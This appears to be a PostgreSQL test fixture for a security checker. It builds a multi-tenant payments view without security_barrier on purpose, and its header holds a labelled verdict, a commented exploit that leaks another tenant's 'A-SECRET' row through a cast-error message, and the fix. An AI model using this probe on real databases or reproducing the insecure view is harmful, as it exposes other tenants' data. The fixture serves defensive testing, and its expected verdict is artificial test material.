-- verdict: leak
-- kind: view-no-security-barrier
-- object: public.my_payments
-- why: the view filters by tenant but is no security barrier: a condition of the caller may run before the filter and tell in its error message what it saw
-- severity: medium
-- roles: app_owner app_user
-- exploit-begin
-- do $d$ begin
--   perform 1 from my_payments where reference::int > 0;
-- exception when others then perform set_config('probe.seen', sqlerrm, false);
-- end $d$;
-- select coalesce(current_setting('probe.seen', true) like '%A-SECRET%', false) as leaked;
-- exploit-end
-- fix-begin
-- alter view my_payments set (security_barrier = true);
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table payments (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  reference text not null
);
insert into payments (tenant_id, reference) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET iban'), ('00000000-0000-4000-8000-00000000000b', 'b iban');
analyze payments;
create view my_payments as select id, reference from payments where tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid;
grant select on my_payments to app_user;
reset role;
